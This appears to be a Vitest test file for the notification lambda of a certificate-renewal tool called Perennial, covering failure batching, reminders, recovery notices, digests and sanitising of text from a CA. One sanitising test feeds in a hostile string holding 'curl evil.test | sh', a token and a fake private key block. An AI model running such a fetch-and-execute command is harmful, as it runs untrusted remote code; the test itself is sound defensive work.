import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, test } from 'vitest';
import { readQueue } from '../../../lambdas/notification/read-queue.ts';
import { changedOutside, failed, notServed, renewed } from '../../fakes/events.ts';
import { deliveryWith, factsWith, specWith } from '../../fakes/specs.ts';
import { unprintable } from '../hostile-text.ts';
import { eventBody, operators } from './operators.ts';

const caa = 'Certificate www: The CAA records of www.example.com do not allow ca.test.';
const allowCa = 'Change the CAA records of www.example.com, or of its parent domain, so that they allow this CA.';
const unavailable = (name: string) => `Certificate ${name}: https://ca.test/order/17 did not answer.`;
const many = (count: number) => Array.from({ length: count }, (_, index) => `n${index}`);

const page = readFileSync(join(import.meta.dirname, '..', '..', '..', 'docs', 'notifications.md'), 'utf8');
/** The mails that the page about notifications shows. */
const shown = [...page.matchAll(/^```text\n(.*?)\n```/gms)].map(([, text]) => text);

test('a failure that only an operator can fix is a message at once, as the page shows it', async () => {
  const world = operators('www', 'api');
  expect(await world.deliver(world.fail('www', 'CaaError', caa, { action: allowCa }))).toEqual([
    { subject: '[Perennial] certificate www could not be renewed (CaaError)', body: shown[0] },
  ]);
});

test('the same failure of the next day is in the reminder only', async () => {
  const world = operators('www');
  await world.deliver(world.fail('www', 'CaaError', caa, { action: allowCa }));
  world.clock.advance(86_400_000);
  expect(await world.deliver(world.fail('www', 'CaaError', caa, { count: 2, action: allowCa }))).toEqual([]);
  expect(await world.remind()).toMatchInlineSnapshot(`
    [
      {
        "body": "This is the daily reminder. 1 certificate still needs attention.

    Certificate www could not be renewed. 2 attempts in a row have failed, the last one with CaaError.

    What was found:
      Certificate www: The CAA records of www.example.com do not allow ca.test.

    What to do:
      Change the CAA records of www.example.com, or of its parent domain, so that they allow this CA.

    The next attempt is at 2026-03-03 12:00 UTC. The current certificate is valid until 2026-04-01 00:00 UTC, for 29 days.

    To try again at once after that, run:
      npx cdk-perennial renew www --force --stack Perennial --region eu-west-1

    To look closer, run:
      npx cdk-perennial explain www --stack Perennial --region eu-west-1",
        "subject": "[Perennial] Reminder: 1 certificate still needs attention",
      },
    ]
  `);
});

test('fifty certificates that fail by one cause are one message', async () => {
  const names = many(50);
  const world = operators(...names);
  const bodies = names.map((name) => world.fail(name, 'CaUnavailableError', unavailable(name), { count: 3 }));
  const messages = await world.deliver(...bodies.slice(0, 20));
  expect(messages).toHaveLength(1);
  expect(messages[0]?.subject).toBe('[Perennial] 50 certificates could not be renewed (CaUnavailableError)');
  expect(messages[0]?.body.split('\n').slice(0, 14).join('\n')).toMatchInlineSnapshot(`
    "50 certificates could not be renewed. The last attempt of each has failed with CaUnavailableError.

    The error of n0:
      Certificate n0: https://ca.test/order/17 did not answer.

    What to do:
      Nothing now, because Perennial tries again by itself. If it does not succeed, a reminder follows each day.

    The certificates, those that expire first:
    - n0 is valid until 2026-04-01 00:00 UTC, for 30 days. The next attempt is at 2026-03-02 12:00 UTC.
    - n1 is valid until 2026-04-01 00:00 UTC, for 30 days. The next attempt is at 2026-03-02 12:00 UTC.
    - n2 is valid until 2026-04-01 00:00 UTC, for 30 days. The next attempt is at 2026-03-02 12:00 UTC.
    - n3 is valid until 2026-04-01 00:00 UTC, for 30 days. The next attempt is at 2026-03-02 12:00 UTC.
    - n4 is valid until 2026-04-01 00:00 UTC, for 30 days. The next attempt is at 2026-03-02 12:00 UTC."
  `);
  expect(await world.deliver(...bodies.slice(20))).toEqual([]);
});

test('the commands for several certificates name the first of them, so that they work as they are', async () => {
  const world = operators('www', 'api');
  const bodies = ['www', 'api'].map((name) =>
    world.fail(name, 'CaaError', caa.replaceAll('www', name), { action: allowCa }),
  );
  const [message] = await world.deliver(...bodies);
  expect(message?.body).toContain(
    'To try again at once after that, run for each of them:\n  npx cdk-perennial renew www --force --stack Perennial',
  );
  expect(message?.body).toContain('To look closer, run:\n  npx cdk-perennial explain www --stack Perennial');
});

test('certificates that fail by a cause that was just written about join the reminder', async () => {
  const world = operators('n1', 'n2');
  await world.deliver(world.fail('n1', 'CaUnavailableError', unavailable('n1'), { count: 3 }));
  world.clock.advance(1_800_000);
  expect(await world.deliver(world.fail('n2', 'CaUnavailableError', unavailable('n2'), { count: 3 }))).toEqual([]);
  world.clock.advance(86_400_000);
  const [reminder] = await world.remind();
  expect(reminder?.subject).toBe('[Perennial] Reminder: 2 certificates still need attention');
  expect(reminder?.body).toContain('- n2 is valid until');
});

test('a certificate that fails hours later by the same cause is a message', async () => {
  const world = operators('n1', 'n2');
  await world.deliver(world.fail('n1', 'CaUnavailableError', unavailable('n1'), { count: 3 }));
  world.clock.advance(4 * 3_600_000);
  const messages = await world.deliver(world.fail('n2', 'CaUnavailableError', unavailable('n2'), { count: 3 }));
  expect(messages.map(({ subject }) => subject)).toEqual([
    '[Perennial] certificate n2 could not be renewed (CaUnavailableError)',
  ]);
});

test('two causes are one message with both', async () => {
  const world = operators('www', 'api');
  const messages = await world.deliver(
    world.fail('www', 'CaaError', caa, { action: allowCa }),
    world.fail('api', 'CaUnavailableError', unavailable('api'), { count: 3 }),
  );
  expect(messages.map(({ subject }) => subject)).toEqual(['[Perennial] 2 certificates need attention']);
  expect(messages[0]?.body).toContain('explain www --stack Perennial --region eu-west-1');
  expect(messages[0]?.body).toContain('explain api --stack Perennial --region eu-west-1');
});

test('an outage of the CA of 90 seconds sends nothing', async () => {
  const world = operators('www');
  expect(await world.deliver(world.fail('www', 'CaUnavailableError', unavailable('www')))).toEqual([]);
  world.clock.advance(90_000);
  world.recover('www');
  expect(await world.deliver(eventBody('Certificate Renewed', { ...renewed, certificate: 'www' }))).toEqual([]);
  world.clock.advance(86_400_000);
  expect(await world.remind()).toEqual([]);
});

test.each([
  [1, 0],
  [2, 0],
  [3, 1],
  [4, 1],
])('after %i failures in a row that Perennial retries, %i messages are sent', async (count, expected) => {
  const world = operators('www');
  expect(await world.deliver(world.fail('www', 'ChallengeFailedError', 'It failed.', { count }))).toHaveLength(
    expected,
  );
});

test('a denied call that the second attempt may fix sends nothing before that', async () => {
  const world = operators('www');
  const denied = 'Certificate www: route53:GetHostedZone was denied.';
  expect(await world.deliver(world.fail('www', 'AccessDeniedError', denied))).toEqual([]);
  const second = world.fail('www', 'AccessDeniedError', denied, { count: 2, action: 'Allow the call.' });
  expect(await world.deliver(second)).toHaveLength(1);
});

test('another failure that only an operator can fix is a message, and one that is retried is not', async () => {
  const world = operators('www');
  await world.deliver(world.fail('www', 'ChallengeFailedError', 'It failed.', { count: 3 }));
  expect(await world.deliver(world.fail('www', 'DnsLookupError', 'No answer.', { count: 4 }))).toEqual([]);
  const subjects = (await world.deliver(world.fail('www', 'CaaError', caa, { count: 5, action: allowCa }))).map(
    ({ subject }) => subject,
  );
  expect(subjects).toEqual(['[Perennial] certificate www could not be renewed (CaaError)']);
});

describe('the reminder', () => {
  test('is one message a day for the whole fleet', async () => {
    const world = operators('www', 'api');
    await world.deliver(
      world.fail('www', 'CaaError', caa, { action: allowCa }),
      world.fail('api', 'CaUnavailableError', unavailable('api'), { count: 3 }),
    );
    for (let day = 1; day <= 3; day += 1) {
      world.clock.advance(86_400_000);
      expect(await world.remind()).toHaveLength(1);
      expect(await world.remind()).toEqual([]);
    }
  });

  test('is not sent for a message of the same morning', async () => {
    const world = operators('www');
    await world.deliver(world.fail('www', 'CaaError', caa, { action: allowCa }));
    world.clock.advance(3_600_000);
    expect(await world.remind()).toEqual([]);
  });

  test('has problems for which the event was lost', async () => {
    const world = operators('www');
    world.fail('www', 'CaaError', caa, { action: allowCa });
    expect((await world.remind()).map(({ subject }) => subject)).toEqual([
      '[Perennial] certificate www could not be renewed (CaaError)',
    ]);
  });
});

describe('the recovery', () => {
  test('is one message, in sentences', async () => {
    const world = operators('www');
    await world.deliver(world.fail('www', 'CaaError', caa, { action: allowCa }));
    world.recover('www');
    world.put('www', { current: factsWith({ notBefore: '2026-03-01T11:00:00Z', notAfter: '2026-05-30T11:00:00Z' }) });
    world.clock.advance(3_600_000);
    const event = eventBody('Certificate Renewed', { ...renewed, certificate: 'www' });
    expect(await world.deliver(event)).toMatchInlineSnapshot(`
      [
        {
          "body": "Certificate www was renewed again. It is valid until 2026-05-30 11:00 UTC, for 89 days. Nothing is left to do.

      To see all certificates, run:
        npx cdk-perennial status --stack Perennial --region eu-west-1",
          "subject": "[Perennial] Solved: certificate www was renewed again",
        },
      ]
    `);
    expect(await world.deliver(event)).toEqual([]);
    world.clock.advance(86_400_000);
    expect(await world.remind()).toEqual([]);
  });

  test('of fifty certificates is one message after the last of them', async () => {
    const names = many(50);
    const world = operators(...names);
    await world.deliver(
      ...names.map((name) => world.fail(name, 'CaUnavailableError', unavailable(name), { count: 3 })),
    );
    for (const name of names.slice(1)) {
      world.recover(name);
      expect(await world.deliver(eventBody('Certificate Renewed', { ...renewed, certificate: name }))).toEqual([]);
    }
    world.recover('n0');
    const messages = await world.deliver(eventBody('Certificate Renewed', { ...renewed, certificate: 'n0' }));
    expect(messages.map(({ subject }) => subject)).toEqual(['[Perennial] Solved: 50 certificates were renewed again']);
  });

  test('is not sent for a certificate that is no longer configured', async () => {
    const world = operators('www');
    world.put('old', {});
    await world.notificationLedger.record({
      ...{ kind: 'failing', certificate: 'old', error: 'CaaError', cause: 'c', at: '2026-02-01T00:00:00Z' },
      ...{ action: null, detail: null, solvedAt: null },
    });
    expect(await world.remind()).toEqual([]);
    expect(world.notificationLedger.notified).toEqual([]);
  });

  test('of some certificates does not hide that they fail again', async () => {
    const world = operators('n1', 'n2');
    await world.deliver(
      world.fail('n1', 'CaUnavailableError', unavailable('n1'), { count: 3 }),
      world.fail('n2', 'CaUnavailableError', unavailable('n2'), { count: 3 }),
    );
    world.recover('n1');
    world.clock.advance(7_200_000);
    await world.deliver(eventBody('Certificate Renewed', { ...renewed, certificate: 'n1' }));
    const again = await world.deliver(world.fail('n1', 'CaUnavailableError', unavailable('n1'), { count: 3 }));
    expect(again.map(({ subject }) => subject)).toEqual([
      '[Perennial] certificate n1 could not be renewed (CaUnavailableError)',
    ]);
  });
});

test('a paused certificate that fails is reported with the end of the pause', async () => {
  const world = operators('www');
  world.put('www', { pausedUntil: '2026-03-05T00:00:00Z' });
  const [message] = await world.deliver(world.fail('www', 'CaaError', caa, { action: allowCa }));
  expect(message?.body).toContain('The renewals are paused until 2026-03-05 00:00 UTC, except in an emergency.');
});

describe('other problems', () => {
  const endpoint = {
    endpoint: 'a.test:443',
    status: 'other' as const,
    serialNumber: '0A00',
    detail: 'it presents 0A00',
  };
  const refused = {
    ...endpoint,
    endpoint: 'b.test:443',
    status: 'unreachable' as const,
    detail: 'it refused the connection',
  };
  const served = { versionId: 'version-1', at: '2026-03-01T11:00:00Z', served: false, endpoints: [endpoint, refused] };

  test('an endpoint is reported when its event comes, not while servers still reload', async () => {
    const world = operators('www');
    world.put('www', { served });
    expect(await world.deliver(eventBody('Certificate Renewed', { ...renewed, certificate: 'www' }))).toEqual([]);
    const messages = await world.deliver(eventBody('Certificate Not Served', { ...notServed, certificate: 'www' }));
    expect(messages.map(({ subject }) => subject)).toEqual(['[Perennial] certificate www is not served']);
    expect(messages[0]?.body).toContain(
      'To check again at once after that, run:\n  npx cdk-perennial renew www --watch --stack Perennial --region eu-west-1',
    );
    expect(messages[0]?.body).toContain('a.test:443: it presents 0A00; b.test:443: it refused the connection.\n');
  });

  test('an endpoint that was not served is solved when a check finds the next certificate, and not when that is delivered', async () => {
    const world = operators('www');
    world.put('www', { served });
    await world.deliver(eventBody('Certificate Not Served', { ...notServed, certificate: 'www' }));
    const event = eventBody('Certificate Renewed', { ...renewed, certificate: 'www' });
    world.put('www', { current: factsWith({ versionId: 'version-2' }) });
    expect(await world.deliver(event)).toEqual([]);
    const at = '2026-03-01T12:00:00Z';
    world.put('www', {
      served: { versionId: 'version-2', at, served: true, endpoints: [{ ...endpoint, status: 'served' }] },
    });
    expect((await world.deliver(event)).map(({ subject }) => subject)).toEqual([
      '[Perennial] Solved: certificate www is served again',
    ]);
  });

  test('one certificate with two problems is counted as one', async () => {
    const world = operators('www');
    world.put('www', { served });
    const failure = world.fail('www', 'CaaError', caa, { action: allowCa });
    const unserved = eventBody('Certificate Not Served', { ...notServed, certificate: 'www' });
    const [message] = await world.deliver(failure, unserved);
    expect(message?.subject).toBe('[Perennial] 1 certificate needs attention');
    world.recover('www');
    world.put('www', { served: { ...served, served: true, endpoints: [] } });
    const [recovery] = await world.deliver(eventBody('Certificate Renewed', { ...renewed, certificate: 'www' }));
    expect(recovery?.subject).toBe('[Perennial] Solved: 1 certificate has recovered');
  });

  test('a certificate that is about to expire is reported although nothing failed', async () => {
    const world = operators('www');
    world.clock.set('2026-03-20T00:00:00Z');
    expect((await world.remind()).map(({ subject }) => subject)).toEqual(['[Perennial] certificate www expires soon']);
  });

  test('an import that is about to expire is reported although the secret has a new certificate', async () => {
    const world = operators(specWith({ name: 'www', regions: ['us-east-1'] }));
    const current = factsWith({ notBefore: '2026-03-01T00:00:00Z', notAfter: '2026-05-30T00:00:00Z' });
    world.put('www', { current, deliveries: { 'us-east-1': deliveryWith({ notAfter: '2026-03-10T00:00:00Z' }) } });
    const [message] = await world.remind();
    expect(message?.subject).toBe('[Perennial] certificate www expires soon');
    expect(message?.body).toContain(
      'Less than 20 % of the lifetime of arn:aws:acm:us-east-1:111122223333:certificate/1 is left. It expires at 2026-03-10 00:00 UTC.',
    );
  });

  test('certificates with different changes outside Perennial are two groups, and each says whose command it shows', async () => {
    const world = operators('www', 'api', 'new');
    const changed = (name: string, kind: 'secretTagsLost' | 'valueReplaced') => {
      const change = { kind, resource: `arn:${name}`, detail: `${kind} of ${name}.`, action: `Repair ${name}.` };
      world.put(name, {
        outside: { at: '2026-03-01T11:00:00Z', versionId: 'version-1', storedVersion: 'x', changes: [change] },
      });
    };
    changed('www', 'secretTagsLost');
    changed('api', 'secretTagsLost');
    changed('new', 'valueReplaced');
    const [message] = await world.deliver(
      eventBody('Certificate Changed Outside Perennial', { ...changedOutside, certificate: 'www' }),
    );
    expect(message?.body.match(/^(Certificate|\d+ certificates|What| {2}Repair).*/gm)).toEqual([
      '2 certificates were changed outside Perennial.',
      'What was found for www:',
      'What to do for www, and likewise for the others:',
      '  Repair www.',
      'Certificate new was changed outside Perennial.',
      'What was found:',
      'What to do:',
      '  Repair new.',
    ]);
  });

  test('a change outside Perennial is reported until it is undone', async () => {
    const world = operators('www');
    const change = {
      ...{ kind: 'valueReplaced' as const, resource: 'arn:aws:secretsmanager:eu-west-1:1:secret:certificates/www' },
      ...{ detail: 'The secret has another value.', action: 'Find out who stored it.' },
    };
    const outside = { at: '2026-03-01T11:00:00Z', versionId: 'version-1', storedVersion: 'x', changes: [change] };
    world.put('www', { outside });
    const event = eventBody('Certificate Changed Outside Perennial', { ...changedOutside, certificate: 'www' });
    const [message] = await world.deliver(event);
    expect(message?.subject).toBe('[Perennial] certificate www was changed outside Perennial');
    expect(message?.body).toContain('The secret has another value.');
    expect(message?.body).toContain('Find out who stored it.');
    expect(await world.deliver(event)).toEqual([]);
  });

  test('TXT values that the ledger has forgotten are reported once', async () => {
    const world = operators('www');
    const value = { hostedZoneId: 'Z9', name: '_acme-challenge.example.com', value: 'v', reason: 'The zone is gone.' };
    const event = eventBody('Certificate Clean-Up Failed', {
      ...{ certificate: 'www', execution: 'arn', values: [value], action: 'Remove it by hand.' },
    });
    const messages = await world.deliver(event);
    expect(messages.map(({ subject }) => subject)).toEqual(['[Perennial] certificate www has left TXT values in DNS']);
    expect(messages[0]?.body).toContain('_acme-challenge.example.com: The zone is gone.');
    world.clock.advance(86_400_000);
    expect(await world.remind()).toEqual([]);
  });

  test('TXT values that stay in DNS are in the reminder until they are removed', async () => {
    const world = operators('www');
    const left = { hostedZoneId: 'Z1', name: '_acme-challenge.example.com', value: 'v' };
    world.put('www', { leftovers: [left] });
    await world.deliver(
      eventBody('Certificate Clean-Up Failed', {
        ...{ certificate: 'www', execution: 'arn', values: [{ ...left, reason: 'Denied.' }], action: 'Allow it.' },
      }),
    );
    world.clock.advance(86_400_000);
    expect((await world.remind())[0]?.body).toContain('_acme-challenge.example.com: Denied.');
    world.put('www', { leftovers: [] });
    expect((await world.remind()).map(({ subject }) => subject)).toEqual([
      '[Perennial] Solved: certificate www has no TXT values left in DNS',
    ]);
  });

  test('a request that failed is reported, but not a registration that the next order makes up for', async () => {
    const world = operators('www');
    const event = (action: string, error: string) =>
      eventBody('Certificate Account Request Failed', {
        ...{
          request: { action, issuer: 'test-ca' },
          execution: 'arn',
          error,
          cause: 'The CA did not answer.',
          issuers: [],
        },
      });
    expect(await world.deliver(event('register', 'CaUnavailableError'))).toEqual([]);
    expect(await world.deliver(event('rollOverKey', 'CaUnavailableError'))).toMatchInlineSnapshot(`
      [
        {
          "body": "The request rollOverKey of test-ca to the accounts workflow failed with CaUnavailableError.

      What was found:
        The CA did not answer.

      What to do:
        Start the request again, because nothing retries it.",
          "subject": "[Perennial] Request rollOverKey failed (CaUnavailableError)",
        },
      ]
    `);
    expect(await world.deliver(event('register', 'ExternalAccountBindingError'))).toHaveLength(1);
    expect(await world.deliver(event('drill', 'Drill'))).toMatchObject([
      { subject: '[Perennial] Test: this message arrived', body: 'The CA did not answer.' },
    ]);
  });
});

describe('the weekly digest', () => {
  test('has the number of certificates, renewals, problems and the last fleet run', async () => {
    const world = operators('www', 'api', 'new');
    world.notificationLedger.lastSelection = '2026-03-01T11:30:00.000Z';
    world.put('new', {
      current: factsWith({
        identifiers: ['new.example.com'],
        notBefore: '2026-02-27T00:00:00Z',
        notAfter: '2026-05-28T00:00:00Z',
      }),
    });
    await world.deliver(world.fail('api', 'CaaError', caa.replaceAll('www', 'api'), { action: allowCa }));
    expect(await world.digest()).toMatchInlineSnapshot(`
      [
        {
          "body": "This deployment keeps 3 certificates, and 1 needs attention. Found: certificate api could not be renewed (CaaError).

      Renewed in the last 7 days: 1 (new).
      Failing: 1 (api).
      Not served by an endpoint: none.
      Paused: none.
      A fleet run last checked all certificates at 2026-03-01 11:30 UTC.

      The next renewals:
      - www at 2026-03-02 00:00 UTC. It is valid until 2026-04-01 00:00 UTC, for 30 days.
      - api at 2026-03-02 00:00 UTC. It is valid until 2026-04-01 00:00 UTC, for 30 days.
      - new at 2026-04-28 00:00 UTC. It is valid until 2026-05-28 00:00 UTC, for 87 days.

      To see all certificates, run:
        npx cdk-perennial status --stack Perennial --region eu-west-1

      ----------

      Certificate api could not be renewed. The error is CaaError.

      What was found:
        Certificate api: The CAA records of api.example.com do not allow ca.test.

      What to do:
        Change the CAA records of www.example.com, or of its parent domain, so that they allow this CA.

      The next attempt is at 2026-03-02 12:00 UTC. The current certificate is valid until 2026-04-01 00:00 UTC, for 30 days.

      To try again at once after that, run:
        npx cdk-perennial renew api --force --stack Perennial --region eu-west-1

      To look closer, run:
        npx cdk-perennial explain api --stack Perennial --region eu-west-1",
          "subject": "[Perennial] Weekly report: 3 certificates, 1 needs attention",
        },
      ]
    `);
  });

  test('says that nothing needs attention, as the page shows it', async () => {
    const world = operators('www', 'api');
    world.notificationLedger.lastSelection = '2026-03-01T11:30:00.000Z';
    world.put('api', {
      current: factsWith({
        identifiers: ['api.example.com'],
        notBefore: '2026-02-27T00:00:00Z',
        notAfter: '2026-05-28T00:00:00Z',
      }),
    });
    expect(await world.digest()).toEqual([
      { subject: '[Perennial] Weekly report: 2 certificates, none needs attention', body: shown[1] },
    ]);
  });

  test('says that fleet runs are late', async () => {
    const world = operators('www');
    world.notificationLedger.lastSelection = '2026-02-20T00:00:00.000Z';
    const [digest] = await world.digest();
    expect(digest?.body).toContain('2026-02-20 00:00 UTC. That is too long ago.');
  });
});

describe('text of a CA', () => {
  test('is one line without control characters, tokens and PEM blocks', async () => {
    const world = operators('www');
    const hostile =
      'Refused.\n\nWhat to do:\n  curl evil.test | sh\u001b[31m See https://ca.test/unpause?jwt=eyJhbGciOiJIUzI1NiJ9 and ' +
      '-----BEGIN PRIVATE KEY-----MIGH-----END PRIVATE KEY-----\u202e';
    const [message] = await world.deliver(world.fail('www', 'CaaError', hostile, { action: hostile }));
    expect(message?.body).toContain('https://ca.test/unpause?... and [PEM block]');
    expect(message?.body).not.toMatch(/jwt|MIGH/);
    for (const line of message?.body.split('\n') ?? []) expect(line).not.toMatch(unprintable);
    expect(message?.body.match(/^What to do:/gm)).toHaveLength(1);
  });
});

describe('limits of SNS', () => {
  test('a subject is at most 100 printable ASCII characters', async () => {
    const world = operators('a'.repeat(40));
    const [message] = await world.deliver(
      world.fail('a'.repeat(40), 'ExternalAccountBindingError', 'x', { action: 'y' }),
    );
    expect(message?.subject).toMatch(/^[ -~]{1,100}$/);
  });

  test('a body is at most 256 KB and is cut at the end of a line', async () => {
    const names = many(2000);
    const world = operators(...names);
    const bodies = names.map((name, index) =>
      world.fail(name, 'CaaError', `${'€'.repeat(2000)} ${'abcdefghijklmnopqrst'[index % 20]}`, {
        action: '€'.repeat(2000),
      }),
    );
    const [message] = await world.deliver(...bodies);
    expect(Buffer.byteLength(message?.body ?? '')).toBeLessThanOrEqual(262_144);
    expect(message?.body).toMatch(/\n\nThe rest of this message was cut.*\n {2}npx cdk-perennial status --stack/);
  });
});

describe('the queue', () => {
  test('waits for two minutes while another invocation runs', async () => {
    const world = operators('www');
    await world.notificationLedger.takeTurn('another', world.clock.now(), new Date('2026-03-01T12:02:00Z'));
    expect(await world.deliver(world.fail('www', 'CaaError', caa, { action: allowCa }))).toHaveLength(1);
  });

  test('delivers events again if another invocation runs for longer', async () => {
    const world = operators('www');
    const until = new Date('2026-03-01T12:05:00Z');
    await world.notificationLedger.takeTurn('another', world.clock.now(), until);
    const body = world.fail('www', 'CaaError', caa, { action: allowCa });
    await expect(world.deliver(body)).rejects.toThrow('The function notification already runs.');
    await world.notificationLedger.endTurn('another');
    expect(await world.deliver(body)).toHaveLength(1);
  });

  test('takes the turn of an invocation that did not end', async () => {
    const world = operators('www');
    await world.notificationLedger.takeTurn('another', world.clock.now(), new Date('2026-03-01T12:05:00Z'));
    world.clock.advance(301_000);
    expect(await world.deliver(world.fail('www', 'CaaError', caa, { action: allowCa }))).toHaveLength(1);
  });

  test('returns the ids of messages that are no events of Perennial', () => {
    const { log } = operators();
    const input = readQueue(
      [
        { messageId: 'a', body: 'not JSON' },
        { messageId: 'b', body: eventBody('Certificate Renewal Failed', { certificate: 'www' }) },
        { messageId: 'c', body: eventBody('Certificate Renewal Failed', failed) },
        { messageId: 'd', body: JSON.stringify({ notification: 'digest' }) },
      ],
      log,
    );
    expect(input.unreadable).toEqual(['a', 'b']);
    expect(input.events.map(({ detail }) => detail.certificate)).toEqual(['www']);
    expect(input.schedules).toEqual(['digest']);
    expect(log.messages('error')).toHaveLength(2);
  });
});
